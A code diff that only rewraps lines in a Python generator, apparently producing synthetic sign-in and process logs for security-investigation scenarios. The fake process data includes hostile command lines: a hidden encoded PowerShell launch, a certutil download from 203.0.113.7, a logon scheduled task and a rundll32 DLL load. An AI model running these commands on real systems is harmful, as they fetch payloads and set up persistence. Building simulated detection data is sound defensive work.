@@ -63,7 +63,8 @@ def fam_security(rng: random.Random, variant: int) -> Scenario:
         for _ in range(rng.randrange(10, 18)):
             c = pick(rng, CITIES)
             rows.append({"time": _iso(t0 - timedelta(minutes=rng.randrange(0, 60 * 24 * 3))),
-                         "ip": f"{rng.randrange(11, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
+                         "ip": (f"{rng.randrange(11, 223)}.{rng.randrange(256)}.{rng.randrange(256)}."
+                                f"{rng.randrange(1, 255)}"),
                          "city": c[0], "app": pick(rng, ["Outlook", "Teams", "SharePoint", "Azure Portal", "VPN",
                                                         "Salesforce"]),
                          "client": pick(rng, ["Chrome 127 / Windows", "Outlook mobile / iOS", "python-requests/2.32",
@@ -73,8 +74,8 @@ def fam_security(rng: random.Random, variant: int) -> Scenario:
                          "risk": pick(rng, ["none", "low", "medium", "high"])})
         rows.sort(key=lambda r: r["time"], reverse=True)
         steps.append(Step("Reviewing sign-ins for impossible travel and odd clients." if chunk == 0 else
-                          "Going further back in the sign-in log.", "list_sign_ins", {"upn": upn, "days": 3 + chunk * 3},
-                          len(rows), lambda k, r=rows: {"sign_ins": r[:k]}))
+                          "Going further back in the sign-in log.", "list_sign_ins",
+                          {"upn": upn, "days": 3 + chunk * 3}, len(rows), lambda k, r=rows: {"sign_ins": r[:k]}))
         procs = []
         for _ in range(rng.randrange(10, 18)):
             procs.append({"time": _iso(t0 + timedelta(seconds=rng.randrange(-900, 900))),
@@ -82,9 +83,11 @@ def fam_security(rng: random.Random, variant: int) -> Scenario:
                                               "msedge.exe", "certutil.exe", "schtasks.exe", "curl.exe"]),
                           "parent": pick(rng, ["winword.exe", "explorer.exe", "powershell.exe", "outlook.exe"]),
                           "cmdline": pick(rng, ["-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA...",
-                                                "/c whoami /groups", "certutil -urlcache -f http://203.0.113.7/a.txt a.txt",
+                                                "/c whoami /groups",
+                                                "certutil -urlcache -f http://203.0.113.7/a.txt a.txt",
                                                 "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon",
-                                                "https://login.example-sso.net/", "rundll32 C:\\ProgramData\\x.dll,Start"]),
+                                                "https://login.example-sso.net/",
+                                                "rundll32 C:\\ProgramData\\x.dll,Start"]),
                           "sha256": _hex(rng, 64), "user": upn})
         steps.append(Step(f"Process activity on {host} around the alert.", "list_processes",
                           {"host_id": f"hst_{_hex(rng, 8)}", "since": _iso(t0 - timedelta(minutes=15 + 10 * chunk))},
